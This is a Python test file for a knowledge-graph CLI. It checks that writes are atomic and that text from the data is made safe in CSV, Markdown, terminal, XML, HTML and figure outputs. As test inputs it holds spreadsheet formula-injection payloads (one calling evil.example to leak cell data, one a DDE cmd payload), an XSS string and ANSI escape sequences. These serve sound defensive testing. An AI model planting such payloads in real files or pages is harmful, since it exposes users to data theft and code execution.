"""Hostile outputs (issue 20, points 3, 7, 8 and the matplotlib case of 9).

Every command that writes a file writes it all at once or not at all: an unwritable
place, a missing folder, a folder given as the file, a read-only file or a full disk
is a one-line error naming the path (exit 2, no traceback) and the previous file is
left as it was. Text from the data is made safe for where it lands: CSV cells never
run as spreadsheet formulas, Markdown carries no raw HTML, no control character
reaches the terminal raw or makes GraphML/GEXF invalid, a placeholder name in a
label does not break the HTML page, an absurdly long label does not zoom the
drawing to nothing, and ``$…$`` in a label is drawn as typed.

Already held and tested elsewhere, not repeated here: markup and script in labels
and source titles never run in the HTML page (tests/render/test_viz.py,
test_data_text_is_escaped_and_links_are_http_only and
test_browser_does_not_run_markup_from_the_data).
"""

from __future__ import annotations

import csv
import ctypes
import html
import io
import json
import os
import re
import resource
import shutil
import signal
import stat
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner

import transferkg
from tests.helpers import REPO
from transferkg.cli import main
from transferkg.core.errors import OutputError
from transferkg.core.outputs import csv_cell, csv_text, write_atomic, write_csv
from transferkg.query.results import format_result
from transferkg.render import page as html_page
from transferkg.render.export import export_graph
from transferkg.render.figures import network_figure, plot_network
from transferkg.render.page import render_html
from transferkg.render.timeline import timeline_figure
from transferkg.store.base import SelectResult

AGREEMENT = "agreement-AA-BB-2025"
# Raw characters that must never reach a terminal (C0 but tab and newline, DEL, C1).
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


# --------------------------------------------------------------------------- helpers


def _plant(tree: Path, label: str) -> Path:
    """The mini tree (with the query library) whose agreement is labelled ``label``."""
    path = tree / "graph" / "mini.yaml"
    text = path.read_text(encoding="utf-8")
    assert 'label: "Test agreement"' in text
    path.write_text(text.replace('label: "Test agreement"', f"label: {json.dumps(label)}"), encoding="utf-8")
    if not (tree / "queries").exists():
        shutil.copytree(REPO / "queries", tree / "queries")
    return tree


def _invoke(tree: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, ["--root", str(tree), *args])
    return result.exit_code, result.stdout, result.stderr


def _one_line_error(stderr: str, path: Path | str) -> str:
    """The single error line, which names ``path``; no traceback (a note before it is allowed)."""
    lines = [line for line in stderr.splitlines() if line.startswith("error:")]
    assert "Traceback" not in stderr and "  File " not in stderr
    assert len(lines) == 1 and stderr.rstrip().endswith(lines[0]), stderr
    assert str(path) in lines[0] or Path(path).name in lines[0], lines[0]
    return lines[0]


def _run(tree: Path, *args: str, preexec: Callable[[], None] | None = None,
         cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """``python -m transferkg --root TREE ARGS`` in a child process, as a user runs it."""
    return subprocess.run([sys.executable, "-m", "transferkg", "--root", str(tree), *args], capture_output=True,
                          text=True, timeout=300, preexec_fn=preexec, cwd=cwd)


def _no_root_override() -> None:
    """In the child: give up the capabilities that let root write anywhere, so file permissions apply.

    Dropped from the bounding set, they are gone from the program the child runs
    (root keeps being the owner of its files, so it can still read the venv).
    """
    if os.geteuid() != 0:
        return
    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


@pytest.fixture()
def unprivileged(tmp_path: Path) -> Callable[[], None]:
    """A ``preexec_fn`` under which a read-only folder really refuses writes (else the test is skipped)."""
    probe = tmp_path / "probe"
    probe.mkdir()
    probe.chmod(0o555)
    try:
        child = subprocess.run([sys.executable, "-c", f"open({str(probe / 'x')!r}, 'w')"], capture_output=True,
                               preexec_fn=_no_root_override, timeout=60)
    except (OSError, subprocess.SubprocessError) as exc:
        pytest.skip(f"cannot drop the permission override here: {exc}")
    finally:
        probe.chmod(0o755)
    if child.returncode == 0:
        pytest.skip("file permissions are not enforced for this user here")
    return _no_root_override


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


# --------------------------------------------------------------------------- atomic, clearly failing writes


def test_a_folder_without_write_permission_is_a_clear_error_and_the_old_file_stays(
        tree: Path, tmp_path: Path, unprivileged: Callable[[], None]) -> None:
    _plant(tree, "Test agreement")
    folder = tmp_path / "locked"
    folder.mkdir()
    target = folder / "agreements.csv"
    target.write_text("previous\n", encoding="utf-8")
    folder.chmod(0o555)
    try:
        child = _run(tree, "query", "agreements", "--format", "csv", "-o", str(target), preexec=unprivileged)
    finally:
        folder.chmod(0o755)
    assert child.returncode == 2, child.stderr
    line = _one_line_error(child.stderr, target)
    assert "permission" in line.lower()
    assert target.read_text(encoding="utf-8") == "previous\n"
    assert _leftovers(folder) == []


def test_a_read_only_file_is_not_replaced(tree: Path, tmp_path: Path, unprivileged: Callable[[], None]) -> None:
    _plant(tree, "Test agreement")
    target = tmp_path / "edges.csv"
    target.write_text("previous\n", encoding="utf-8")
    target.chmod(0o444)
    child = _run(tree, "export", "--format", "csv", "-o", str(target), preexec=unprivileged)
    assert child.returncode == 2, child.stderr
    assert "read-only" in _one_line_error(child.stderr, target)
    assert target.read_text(encoding="utf-8") == "previous\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o444
    assert _leftovers(tmp_path) == []


_WRITERS = {
    "query": ["query", "agreements", "--format", "csv", "-o"],
    "sparql": ["sparql", "SELECT ?s WHERE { ?s a tct:TransferAgreement }", "-o"],
    "network": ["network", "-o"],
    "network --metrics": ["network", "--metrics", "--format", "csv", "-o"],
    "totals": ["totals", "-o"],
    "active": ["active", "-o"],
    "show": ["show", AGREEMENT, "--format", "md", "-o"],
    "export graphml": ["export", "--format", "graphml", "-o"],
    "export ttl": ["export", "--format", "ttl", "-o"],
    "view html": ["view", "deal-network", "--out"],
    "view png": ["view", "deal-network", "--out"],
    "view timeline": ["view", "timeline", "--out"],
    "docs": ["docs", "--out"],
}
_SUFFIX = {"view png": ".png", "view timeline": ".svg", "view html": ".html", "docs": ".html"}


@pytest.mark.parametrize("command", sorted(_WRITERS))
def test_a_missing_folder_is_an_error_for_every_command_that_writes(tree: Path, tmp_path: Path, command: str) -> None:
    """One rule: a folder the user names must exist; it is never created behind their back."""
    _plant(tree, "Test agreement")
    target = tmp_path / "no" / "such" / f"out{_SUFFIX.get(command, '.txt')}"
    code, _, stderr = _invoke(tree, *_WRITERS[command], str(target))
    assert code == 2, stderr
    assert "does not exist" in _one_line_error(stderr, target)
    assert not (tmp_path / "no").exists()


@pytest.mark.parametrize("command", ["query", "export graphml", "view html", "docs"])
def test_a_folder_given_as_the_output_file_is_refused(tree: Path, tmp_path: Path, command: str) -> None:
    _plant(tree, "Test agreement")
    target = tmp_path / f"a-folder{_SUFFIX.get(command, '.txt')}"
    target.mkdir()
    (target / "keep.txt").write_text("kept", encoding="utf-8")
    code, _, stderr = _invoke(tree, *_WRITERS[command], str(target))
    assert code == 2
    assert "Traceback" not in stderr and target.name in stderr and "is a directory" in stderr
    assert (target / "keep.txt").read_text(encoding="utf-8") == "kept"


def test_the_writer_itself_refuses_a_folder_and_a_file_as_folder(tmp_path: Path) -> None:
    """The same errors from the library, for writers the CLI does not check first (reports, figures)."""
    with pytest.raises(OutputError, match="it is a folder"):
        write_atomic(tmp_path, "x")
    blocker = tmp_path / "plain-file"
    blocker.write_text("kept", encoding="utf-8")
    with pytest.raises(OutputError, match="is not a folder"):
        write_atomic(blocker / "out.csv", "x")
    assert blocker.read_text(encoding="utf-8") == "kept"


_LIMIT = 16 * 1024  # bytes: every output below is far larger


def _file_size_limit() -> None:
    """In the child: a 16 KiB file-size limit, and EFBIG (not SIGXFSZ) when a write passes it."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (_LIMIT, _LIMIT))


@pytest.mark.parametrize(("args", "name"), [
    (["export", "--format", "nt", "-o"], "graph.nt"),
    (["view", "deal-network", "--out"], "deals.html"),
])
def test_a_full_disk_mid_write_keeps_the_previous_file(tree: Path, tmp_path: Path, args: list[str], name: str) -> None:
    _plant(tree, "Test agreement")
    out = tmp_path / "out"
    out.mkdir()
    target = out / name
    previous = "the previous output\n" * 20
    target.write_text(previous, encoding="utf-8")
    child = _run(tree, *args, str(target), preexec=_file_size_limit)
    assert child.returncode == 2, child.stderr
    assert "too large" in _one_line_error(child.stderr, target).lower()  # EFBIG, half-way through the write
    assert target.read_text(encoding="utf-8") == previous
    assert _leftovers(out) == []
    fine = _run(tree, *args, str(target))  # the same command without the limit writes the whole file
    assert fine.returncode == 0, fine.stderr
    assert target.stat().st_size > _LIMIT


def test_a_rewritten_file_keeps_its_permissions(tmp_path: Path) -> None:
    target = tmp_path / "private.csv"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o600)
    write_atomic(target, "new")
    assert target.read_text(encoding="utf-8") == "new" and stat.S_IMODE(target.stat().st_mode) == 0o600


# --------------------------------------------------------------------------- the HTML page


TOKENS = ["__VIS_JS__", "__DATA__", "__JS__", "__VIS_CSS__", "__CSS__", "__TITLE__", "__SUBTITLE__",
          "__TABLE__", "__LEGEND__", "__FILTERS__", "__NOTICES__", "__HEIGHT__"]
LONG = "A" * 50_000 + " middle " + "Z" * 50_000  # a 100 KB label


def _token_graph() -> nx.MultiDiGraph:
    graph = nx.MultiDiGraph(name="__DATA__ __VIS_JS__", description="__TABLE__ __JS__")
    graph.add_node("hub", label="hub", role="sender")
    for number, token in enumerate(TOKENS):
        graph.add_node(f"n{number}", label=token, role="host")
        graph.add_edge("hub", f"n{number}", label=f"{token} edge", status="signed")
    graph.add_node("long", label=LONG, role="host")
    graph.add_edge("hub", "long", label=LONG, status="signed")
    return graph


def _data(page: str) -> dict:
    blocks = re.findall(r'<script type="application/json" id="tkg-data">(.*?)</script>', page, re.S)
    assert len(blocks) == 1
    return json.loads(blocks[0])


def test_placeholder_names_in_labels_are_just_text() -> None:
    graph = _token_graph()
    page = render_html(graph)
    js, css = html_page._vis_assets()
    assert page.count(js) == 1 and page.count(css) == 1 and page.count(html_page._JS) == 1  # each asset once
    assert page.endswith(html_page._JS + "</script>\n</body>\n</html>\n")  # the template's own end, nothing after
    nodes = {n["tkg"]["key"]: n for n in _data(page)["nodes"]}
    assert [nodes[f"n{i}"]["label"] for i in range(len(TOKENS))] == TOKENS
    table = page[page.index('<table class="data">'):]
    assert all(f"<td>{token}</td>" in table for token in TOKENS)
    assert "<title>__DATA__ __VIS_JS__</title>" in page and "__TABLE__ __JS__ ·" in page


def test_a_100kb_label_is_drawn_short_and_shown_whole() -> None:
    page = render_html(_token_graph())
    data = _data(page)
    node = next(n for n in data["nodes"] if n["tkg"]["key"] == "long")
    assert len(node["label"]) <= 80 and node["label"].endswith("…")  # what the canvas draws
    assert node["tkg"]["heading"] == LONG  # what the details panel shows
    edge = next(e for e in data["edges"] if e["tkg"]["heading"] == LONG)
    assert len(edge["title"]) <= 80
    assert f"<td>{LONG}</td>" in page  # the table holds the whole text


_PROBE = """
<script>
(function () {
  function run() {
    var s = document.getElementById("tkg-status").textContent;
    if (!s || !JSON.parse(s).stabilized) { setTimeout(run, 50); return; }
    var id = Object.keys(window.network.body.nodes).filter(function (k) {
      return window.tkg.nodes.get(k) && window.tkg.nodes.get(k).label.length > 60; })[0];
    window.network.emit("click", {nodes: [id], edges: []});
    var pre = document.createElement("pre");
    pre.id = "probe";
    pre.textContent = JSON.stringify({scale: window.network.getScale(),
                                      details: document.getElementById("tkg-details").textContent.length});
    document.body.appendChild(pre);
  }
  setTimeout(run, 50);
})();
</script>
"""


@pytest.mark.browser
def test_placeholder_labels_and_a_100kb_label_render_in_a_browser(tmp_path: Path) -> None:
    from tests.helpers import dump_dom, pre

    graph = _token_graph()
    path = tmp_path / "tokens.html"
    path.write_text(render_html(graph).replace("</body>", _PROBE + "</body>"), encoding="utf-8")
    dom = dump_dom(path, tmp_path / "profile")
    status = pre(dom, "tkg-status")
    assert status["errors"] == []
    assert (status["nodes"], status["edges"]) == (graph.number_of_nodes(), graph.number_of_edges())
    probe = pre(dom, "probe")
    assert probe["scale"] > 0.1  # a 100 KB label drawn in full zooms the network out to a speck
    assert probe["details"] >= len(LONG)  # the clicked node's details show the whole label


def test_a_placeholder_label_from_the_data_keeps_the_view_whole(tree: Path, tmp_path: Path) -> None:
    _plant(tree, "__VIS_JS__ __DATA__ __JS__")
    page = tmp_path / "deals.html"
    code, _, stderr = _invoke(tree, "view", "deal-network", "--out", str(page))
    assert code == 0, stderr
    text = page.read_text(encoding="utf-8")
    edge = _data(text)["edges"][0]
    assert edge["tkg"]["heading"] == "__VIS_JS__ __DATA__ __JS__"
    assert text.count(html_page._JS) == 1


# --------------------------------------------------------------------------- CSV, Markdown, terminal, XML


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "=1+1"]


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _safe(cell: str) -> bool:
    return not cell.startswith(FORMULA_START) or bool(NUMBER.fullmatch(cell))


@pytest.mark.parametrize("label", FORMULAS)
def test_formula_cells_are_neutralised_in_query_and_export_csv(tree: Path, tmp_path: Path, label: str) -> None:
    _plant(tree, label)
    for args, delimiter in ((["query", "agreements", "--format", "csv"], ","),
                            (["query", "agreements", "--format", "tsv"], "\t"),
                            (["export", "--format", "csv"], ",")):
        target = tmp_path / "out.csv"
        code, _, stderr = _invoke(tree, *args, "-o", str(target))
        assert code == 0, stderr
        rows = _cells(target.read_text(encoding="utf-8"), delimiter)
        assert all(_safe(cell) for row in rows for cell in row), rows
        assert "'" + label in [cell for row in rows for cell in row]  # the text is kept, behind a quote


def test_numbers_and_dates_are_not_touched(tree: Path) -> None:
    _plant(tree, "Test agreement")
    query = ('SELECT ?n ?d ?e ?s ?t ?m WHERE { BIND(-5 AS ?n) BIND(-3.25 AS ?d) '
             'VALUES (?e ?s ?t ?m) { ("-1e3" "+3.2" "2025-06" "-5 people") } }')
    code, stdout, stderr = _invoke(tree, "sparql", query, "--format", "csv")
    assert code == 0, stderr
    assert _cells(stdout)[1] == ["-5", "-3.25", "-1e3", "+3.2", "2025-06", "'-5 people"]


def test_the_report_writer_neutralises_formulas_and_writes_atomically(tmp_path: Path) -> None:
    """What the import's rejected-rows report is written with (transferkg.core.outputs.write_csv)."""
    target = tmp_path / "rejected.csv"
    write_csv(target, ["line", "error", "record"], [[2, "=cmd", "@x,-4"], [3, "-7", "+2025-06"]])
    assert _cells(target.read_text(encoding="utf-8")) == [["line", "error", "record"], ["2", "'=cmd", "'@x,-4"],
                                                          ["3", "-7", "'+2025-06"]]
    with pytest.raises(OutputError, match="does not exist"):
        write_csv(tmp_path / "missing" / "r.csv", ["line"], [])
    assert csv_cell(-5) == -5 and csv_cell("-5") == "-5" and csv_cell("\r=1") == "'\r=1"


def _md_cells(line: str) -> list[str]:
    """The cells of a Markdown table row, split on the pipes that are not escaped."""
    return re.split(r"(?<!\\)\|", line.strip().strip("|"))


_HTML = '<img src=x onerror="alert(1)"> | [x](javascript:alert(2)) & <b>bold</b> \\'


def test_markdown_output_passes_no_raw_html(tree: Path) -> None:
    _plant(tree, _HTML)
    code, stdout, stderr = _invoke(tree, "query", "agreements", "--format", "md")
    assert code == 0, stderr
    lines = stdout.splitlines()
    assert "<" not in stdout and ">" not in stdout
    assert len(_md_cells(lines[2])) == len(_md_cells(lines[0]))  # the pipe in the label is not a column
    assert "&lt;img src=x onerror=\"alert(1)\"&gt; \\| \\[x\\](javascript:alert(2)) &amp; " in stdout
    assert "&lt;b&gt;bold&lt;/b&gt; \\\\ |" in stdout  # a trailing backslash cannot escape the column's pipe
    code, stdout, _ = _invoke(tree, "show", AGREEMENT, "--format", "md")
    tables = [line for line in stdout.splitlines() if line.startswith("|")]
    assert code == 0 and tables and all("<" not in line for line in tables)


def test_show_markdown_heading_passes_no_raw_html(tree: Path) -> None:
    _plant(tree, _HTML)
    code, stdout, _ = _invoke(tree, "show", AGREEMENT, "--format", "md")
    assert code == 0 and "<img" not in stdout and "<b>" not in stdout


def test_show_html_with_a_placeholder_in_the_label_keeps_the_page_whole(tree: Path) -> None:
    _plant(tree, "X {body} {title} Y")
    code, stdout, _ = _invoke(tree, "show", AGREEMENT, "--format", "html")
    assert code == 0 and "<title>X {body} {title} Y — transferkg</title>" in stdout and stdout.count("<h1>") == 1


ANSI = "\x1b[2J\x1b]0;pwned\x07 red\x1b[31m text \x9b31m del\x7f nul\x00 end"


def test_control_characters_never_reach_the_terminal_raw(tree: Path) -> None:
    _plant(tree, ANSI)
    for fmt in ("table", "csv", "tsv", "md", "json"):
        code, stdout, stderr = _invoke(tree, "query", "agreements", "--format", fmt)
        assert code == 0, stderr
        assert not RAW_CONTROL.search(stdout), (fmt, stdout)
        assert "\\u001b" in stdout  # shown, visibly
    _, stdout, _ = _invoke(tree, "query", "agreements", "--format", "json")
    assert json.loads(stdout)[0]["agreementLabel"] == ANSI  # the escape reads back as the same text
    for args in (["show", AGREEMENT], ["export", "--format", "csv"], ["export", "--format", "ttl"]):
        code, stdout, stderr = _invoke(tree, *args)
        assert code == 0 and not RAW_CONTROL.search(stdout), (args, stderr)


def test_an_error_message_quoting_the_input_shows_control_characters_visibly(tree: Path) -> None:
    _plant(tree, "Test agreement")
    code, _, stderr = _invoke(tree, "sparql", 'SELECT ?x WHERE { ?x ?p "\x1b[31m\x07 }')
    assert code == 2 and "syntax error" in stderr
    assert not RAW_CONTROL.search(stderr) and "\\u001b[31m\\u0007" in stderr


def test_a_table_shows_control_characters_visibly() -> None:
    from rdflib import Literal

    result = SelectResult(["label"], [(Literal("a\x1b[31mb\x07c\x85d"),)])
    table = format_result(result, "table")
    assert "a\\u001b[31mb\\u0007c\\u0085d" in table and not RAW_CONTROL.search(table)


def _xml_valid(path: Path) -> None:
    ET.parse(path)  # raises on a character XML 1.0 cannot hold


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_graphml_and_gexf_stay_valid_xml_with_control_characters(tmp_path: Path, fmt: str) -> None:
    hostile = "bell\x07 esc\x1b[31m nul\x00 del\x7f c1\x85 ff\x0c nonchar\ufffe"
    graph = nx.MultiDiGraph(name=f"graph {hostile}")
    graph.add_node("a\x1bb", label=hostile, tags=[hostile, "x"])
    graph.add_node("c", label="plain")
    graph.add_edge("a\x1bb", "c", label=hostile, note=hostile)
    target = tmp_path / f"g.{fmt}"
    assert export_graph(graph, fmt, target) is None
    _xml_valid(target)
    back = nx.read_graphml(target) if fmt == "graphml" else nx.read_gexf(target)
    node = next(n for n in back.nodes if str(n).startswith("a"))
    assert node == "a\\u001bb"
    assert back.nodes[node]["label"] == ("bell\\u0007 esc\\u001b[31m nul\\u0000 del\\u007f c1\\u0085 ff\\u000c "
                                         "nonchar\\ufffe")


def test_graphml_export_of_a_control_character_label_exits_0_with_a_valid_file(tree: Path, tmp_path: Path) -> None:
    _plant(tree, ANSI)
    for fmt in ("graphml", "gexf"):
        target = tmp_path / f"deals.{fmt}"
        code, _, stderr = _invoke(tree, "export", "--format", fmt, "-o", str(target))
        assert code == 0, stderr
        _xml_valid(target)
        back = nx.read_graphml(target) if fmt == "graphml" else nx.read_gexf(target)
        labels = [d.get("label") for *_, d in back.edges(data=True)]
        assert any(isinstance(x, str) and x.startswith("\\u001b[2J") for x in labels), labels


def test_csv_text_has_one_function_for_every_cell() -> None:
    text = csv_text(["a", "b"], [["=1", -5], ["x\x1by", "+3.2"]], delimiter="\t")
    assert _cells(text, "\t") == [["a", "b"], ["'=1", "-5"], ["x\\u001by", "+3.2"]]


# --------------------------------------------------------------------------- figures


MATH = ["$x^2$", "$x^$", "a_b^c \\ d", "$\\frac{1}{$", "cost $5 and $6"]


def _math_graph() -> nx.DiGraph:
    graph = nx.DiGraph(name="$\\alpha$ title")
    for number, label in enumerate(MATH):
        graph.add_node(f"n{number}", label=label, kind="item" if number else "target")
        if number:
            graph.add_edge("n0", f"n{number}")
    return graph


def _literal(fig: object, labels: list[str]) -> None:
    """Every text of the figure holding one of ``labels`` is drawn as typed (no mathtext)."""
    from matplotlib.text import Text

    texts = {t.get_text(): t for t in fig.findobj(Text)}  # type: ignore[attr-defined]
    for label in labels:
        assert label in texts, (label, sorted(texts))
        assert texts[label].get_parse_math() is False


@pytest.mark.parametrize("suffix", ["png", "svg"])
def test_math_like_labels_are_drawn_literally(tmp_path: Path, suffix: str) -> None:
    import matplotlib

    graph = _math_graph()
    _literal(network_figure(graph), MATH)
    target = tmp_path / f"math.{suffix}"
    with matplotlib.rc_context({"svg.fonttype": "none"}):  # SVG text stays text, so it can be read back
        plot_network(graph, target)
    assert target.stat().st_size > 1000
    if suffix == "svg":
        svg = target.read_text(encoding="utf-8")
        for label in MATH:
            assert html.escape(label, quote=False) in svg, label


def test_math_like_agreement_labels_in_cli_figures_and_the_timeline(tree: Path, tmp_path: Path) -> None:
    label = "$x^$ a_b \\ c"
    _plant(tree, label)
    for args, name in ((["view", "bipartite"], "b.png"), (["view", "bipartite"], "b.svg"),
                       (["view", "timeline", "--since", "2001"], "t.png"), (["view", "timeline"], "t.svg")):
        code, _, stderr = _invoke(tree, *args, "--out", str(tmp_path / name))
        assert code == 0 and "Traceback" not in stderr, stderr
        assert (tmp_path / name).stat().st_size > 1000
    figure = timeline_figure(transferkg.load(tree), since="2001")
    _literal(figure, [label])
